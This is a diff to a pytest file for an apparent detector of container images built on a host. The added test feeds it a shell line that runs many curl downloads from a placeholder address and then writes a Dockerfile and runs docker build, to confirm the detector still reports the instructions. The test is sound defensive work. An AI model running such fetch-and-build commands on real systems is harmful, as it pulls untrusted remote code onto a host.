@@ -8,7 +8,9 @@ import pytest
 
 from t1612core import Detector
 from t1612core.container.dockerfile.limits import LIMIT
+from t1612core.facts.event import Line
 from t1612core.facts.instructions import instructions
+from t1612core.facts.standard_input import standard_input
 from t1612core.shell.files import Files
 from t1612core.shell.flow import MOST, Flow
 from t1612core.shell.placing import Deposit
@@ -35,6 +37,15 @@ def test_texts_are_read_as_far_as_a_dockerfile_is() -> None:
     assert [seen[0] for seen in instructions([last])] == ["inline_instructions"]
     told = list(instructions([long, last]))
     assert told == [("inline_instructions", "dockerfile.oversized: ", (0, 3))]
+
+
+def test_a_dockerfile_is_read_whatever_was_fetched_beside_it() -> None:
+    fetched = "".join(f"curl -o f{number} http://198.51.100.7/{number};" for number in range(MOST))
+    line = f"sh -c '{fetched} echo \"{FETCHED}\" >Dockerfile; docker build .'"
+    facts = standard_input(Line(line, "sh"), "command_line")
+
+    (told,) = [fact.text for fact in facts if fact.signal == "process.inline_instructions"]
+    assert told.endswith(FETCHED.removeprefix("RUN "))
 
 
 # Each piece names files of its own, so nothing is found again that was read already.
